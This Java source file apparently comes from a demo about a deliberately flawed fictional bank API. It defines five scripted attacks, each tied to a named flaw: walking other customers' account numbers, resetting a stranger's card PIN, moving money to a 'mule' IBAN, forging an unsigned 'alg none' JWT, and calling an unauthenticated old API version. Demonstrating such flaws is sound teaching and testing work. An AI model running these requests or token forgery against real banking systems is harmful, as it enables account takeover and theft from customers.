package dev.sinew.demo.people;

import dev.sinew.demo.bank.Flaw;
import dev.sinew.demo.bank.Roster;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** How attackers go about it. Each attack uses one flaw; without it, it gets nothing. */
public enum Attack {
    /** Reads account after account, by counting. */
    WALK("reads account after account, by counting their numbers up", Flaw.FOREIGN_ACCOUNT) {
        @Override
        void run(Browser browser, Prey prey, List<Outcome> outcomes) {
            for (int i = 0; i < STEPS; i++) {
                outcomes.add(browser.get("/v2/accounts/" + (prey.accountId() + i)));
            }
        }
    },
    /** Changes the PIN of one card of somebody else. */
    PIN("changes the PIN of one card that is somebody else's", Flaw.FOREIGN_CARD_PIN) {
        @Override
        void run(Browser browser, Prey prey, List<Outcome> outcomes) {
            outcomes.add(browser.put("/v2/cards/" + prey.cardId() + "/pin", Map.of("pin", "2580")));
        }
    },
    /** Moves money out of an account of somebody else. */
    MONEY("moves money out of an account that is somebody else's", Flaw.FOREIGN_TRANSFER_SOURCE) {
        @Override
        void run(Browser browser, Prey prey, List<Outcome> outcomes) {
            outcomes.add(browser.post(
                    "/v2/transfers",
                    Map.of(
                            "fromAccountId",
                            prey.accountId(),
                            "toIban",
                            MULE,
                            "amount",
                            250,
                            "reference",
                            "Invoice 14")));
        }
    },
    /** Writes a token for somebody else, without a signature. */
    FORGED_TOKEN("writes a token in somebody else's name, without a signature", Flaw.ALG_NONE) {
        @Override
        void run(Browser browser, Prey prey, List<Outcome> outcomes) {
            browser.use(Optional.of(unsigned(prey)));
            outcomes.add(browser.get("/v2/accounts"));
            outcomes.add(browser.get("/v2/accounts/" + prey.accountId()));
            outcomes.add(browser.get("/v2/accounts/" + prey.accountId() + "/transactions?limit=20&offset=0"));
        }

        @Override
        public boolean logsIn() {
            return false;
        }
    },
    /** Calls the old version, with no token at all. */
    OLD_VERSION("calls the old version of the API, with no token at all", Flaw.V1_UNCHECKED) {
        @Override
        void run(Browser browser, Prey prey, List<Outcome> outcomes) {
            browser.use(Optional.empty());
            outcomes.add(browser.get("/v1/customers/" + prey.customerId()));
            outcomes.add(browser.get("/v1/accounts/" + prey.accountId()));
            outcomes.add(browser.get("/v1/accounts/" + prey.accountId() + "/transactions?limit=20&offset=0"));
        }

        @Override
        public boolean logsIn() {
            return false;
        }
    };

    private static final int STEPS = 25;

    /** An account of another bank, in which nobody asks questions; the example of the IBAN registry. */
    private static final String MULE = "GB29NWBK60161331926819";

    private final String words;
    private final Flaw flaw;

    Attack(String words, Flaw flaw) {
        this.words = words;
        this.flaw = flaw;
    }

    abstract void run(Browser browser, Prey prey, List<Outcome> outcomes);

    /** What the attacker does, for people. */
    public String words() {
        return words;
    }

    /** What of the bank makes it possible. */
    public Flaw flaw() {
        return flaw;
    }

    /** Whether the attacker is logged in as a customer of the bank. */
    public boolean logsIn() {
        return true;
    }

    /** Does it, and tells what came of the calls that matter. */
    public List<Outcome> run(Browser browser, Roster.Login attacker, Prey prey) {
        List<Outcome> outcomes = new ArrayList<>();
        if (logsIn() && !browser.logIn(attacker).isSuccess()) {
            throw new IllegalStateException("the attacker cannot log in");
        }
        run(browser, prey, outcomes);
        return outcomes;
    }

    private static String unsigned(Prey prey) {
        long now = Instant.now().getEpochSecond();
        String claims = "{\"iss\":\"https://login.harbour-bank.example\",\"aud\":\"https://api.harbour-bank.example\","
                + "\"sub\":\"" + prey.customerId() + "\",\"role\":\"customer\",\"iat\":" + now + ",\"exp\":"
                + (now + Duration.ofHours(1).toSeconds()) + "}";
        return text("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + text(claims) + ".";
    }

    private static String text(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }
}
